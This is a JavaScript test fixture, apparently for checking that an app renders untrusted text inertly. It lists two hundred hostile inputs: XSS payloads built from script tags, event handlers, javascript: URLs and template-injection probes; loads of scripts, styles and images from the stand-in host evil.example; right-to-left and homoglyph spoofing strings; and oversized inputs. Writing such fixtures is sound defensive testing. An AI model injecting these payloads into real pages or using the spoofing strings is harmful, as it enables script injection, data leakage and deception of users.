// SPDX-License-Identifier: Apache-2.0
// Two hundred texts that mean harm: each would run a script, ask another origin, or look like something else, were it taken
// for anything but text. What runs calls ran(); what asks, asks evil.example.

const SCRIPTS = [
  "<script>ran()</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>ran()</scr</script>ipt>", "<script\\x20type=\"text/javascript\">ran();</script>",
  "<img src=x onerror=ran()>", "<img src=https://evil.example/p.png>", "<img src='x' onerror='ran()' //>", "<img/src/onerror=ran()>", "<img src=x:x onerror=ran(1)>",
  "<svg onload=ran()>", "<svg><script>ran()</script></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><a xlink:href='javascript:ran()'><text>x</text></a></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'></iframe></foreignObject></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
  "<iframe src=javascript:ran()>", "<iframe src=https://evil.example/></iframe>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<object data=https://evil.example/o.swf></object>",
  "<embed src=https://evil.example/e.swf>", "<link rel=stylesheet href=https://evil.example/c.css>", "<link rel=prefetch href=https://evil.example/f>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>", "<style>@import 'https://evil.example/s.css';</style>", "<style>*{background:url(https://evil.example/b)}</style>", "<div style=\"background:url('https://evil.example/d')\">x</div>",
  "<body onload=ran()>", "<details open ontoggle=ran()>x</details>", "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()>", "<textarea autofocus onfocus=ran()>", "<video><source onerror=ran()></video>",
  "<video src=https://evil.example/v.mp4 autoplay></video>", "<audio src=x onerror=ran()>", "<marquee onstart=ran()>x</marquee>", "<a href=javascript:ran()>x</a>", "<a href='https://evil.example/' ping='https://evil.example/p'>x</a>",
  "<form action=https://evil.example/><button>x</button></form>", "<button formaction=javascript:ran()>x</button>", "<template><script>ran()</script></template>", "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
  "</textarea><script>ran()</script>", "</title><script>ran()</script>", "--><script>ran()</script>", "]]><script>ran()</script>", "\"><script>ran()</script>", "'><img src=x onerror=ran()>", "\" onmouseover=\"ran()", "' autofocus onfocus='ran()",
  "javascript:ran()", "data:text/html,<script>ran()</script>", "vbscript:ran()", "{{constructor.constructor('ran()')()}}", "${ran()}", "<%= ran() %>", "#{ran()}", "{{7*7}}", "[x](javascript:ran())", "![x](https://evil.example/m.png)",
  "[x]: https://evil.example/ref", "`ran()`", "<custom-element onclick=ran()>", "<x contenteditable onbeforeinput=ran()>x", "<slot onslotchange=ran()>", "<proffer-chat server=https://evil.example></proffer-chat>",
  "&lt;script&gt;ran()&lt;/script&gt;", "%3Cscript%3Eran()%3C/script%3E", "\\u003cscript\\u003eran()\\u003c/script\\u003e", "\\x3cscript\\x3eran()\\x3c/script\\x3e", "+ADw-script+AD4-ran()+ADw-/script+AD4-",
  "<!--<img src=\"--><img src=x onerror=ran()//\">", "<![CDATA[<script>ran()</script>]]>", "<?xml-stylesheet href='javascript:ran()'?>", "<xss id=x tabindex=1 onfocus=ran()></xss>", "<dialog open onclose=ran()>x</dialog>",
  "$&<script>ran()</script>$1$`", "{name}{text}{n}", "__proto__", "constructor", "';ran();//", "\";ran();//", "*/ran();/*", "\nran()\n", "<br><hr><h1>Big</h1>", "<b>bold</b><i>it</i>",
];
const DISGUISES = [
  "pay \u202egnp.exe\u202c now", "\u2066\u202e\u2069cod\u2067e", "\u200fSAVE\u200e10", "\u061cabc\u202b", "a\u200bd\u200bm\u200bi\u200bn", "free\u2060ship\ufeffping", "\u{e0073}\u{e0061}\u{e0076}\u{e0065}", "\u0000nul\u0007bell\u001b[31mred",
  "\u0085next\u009bcsi", "\ufff9a\ufffab\ufffb", "Z\u0335\u0321\u0322a\u0336l\u0337g\u0338o\u0334".repeat(60), "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <script>ran()</script>", "\ud83d\ude00".repeat(400), "\ud800 lone \udc00", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
  "ﷺ".repeat(300), "　".repeat(200), "\t\t\t\n\n\n\r\n".repeat(50), "ａｄｍｉｎ", "раyраl.com",
];
const HUGE = [
  "A".repeat(100_000), "<".repeat(20_000), "<div>".repeat(5_000), "&amp;".repeat(5_000), "长".repeat(30_000), "\u202e".repeat(10_000), "🧨".repeat(10_000), `${"x".repeat(50_000)}<script>ran()</script>`, "a ".repeat(30_000), "[".repeat(10_000),
];
const WRAPS = [(text) => text, (text) => `Ada says: ${text} — really`, (text) => text.toUpperCase().replaceAll("RAN()", "ran()")];

/** Exactly two hundred, all different. */
export const PAYLOADS = [...new Set([...DISGUISES, ...HUGE, ...WRAPS.flatMap((wrap) => SCRIPTS.map(wrap))])].slice(0, 200);
